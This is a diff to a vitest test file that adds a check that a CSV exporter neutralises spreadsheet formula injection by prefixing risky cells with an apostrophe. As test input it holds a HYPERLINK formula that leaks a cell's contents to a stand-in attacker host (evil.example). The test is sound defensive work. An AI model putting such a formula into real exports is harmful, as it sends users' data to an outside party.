@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { toCsv } from './csv.js';
+import { spreadsheetText, toCsv } from './csv.js';
 
 describe('CSV export', () => {
   it('writes a header and one line per row, quoting only what needs it', () => {
@@ -14,5 +14,22 @@ describe('CSV export', () => {
       ],
     );
     expect(csv).toBe('Department,CSAT\r\nIT,0.8\r\n"Fees, ""billing""\nand more",\r\n');
+  });
+
+  it('never lets a spreadsheet run a cell: text starting with = + - @, a tab or a carriage return is kept as text', () => {
+    const csv = toCsv(
+      [
+        { header: 'Category', value: (row: { name: string; gap: number }) => row.name },
+        { header: 'Gap', value: (row) => row.gap },
+      ],
+      [
+        { name: '=HYPERLINK("http://evil.example/?leak="&A1,"Refund")', gap: -0.5 },
+        { name: '@SUM(A1:A9)', gap: 1 },
+      ],
+    );
+    expect(csv).toBe('Category,Gap\r\n"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Refund"")",-0.5\r\n\'@SUM(A1:A9),1\r\n');
+    expect(['+1', '-1 day', '\tnote', '\r=1+1'].map(spreadsheetText)).toEqual(["'+1", "'-1 day", "'\tnote", "'\r=1+1"]);
+    expect(['Printing', 'IT', 'a=b', ''].map(spreadsheetText)).toEqual(['Printing', 'IT', 'a=b', '']);
+    expect(spreadsheetText(-3)).toBe('-3');
   });
 });
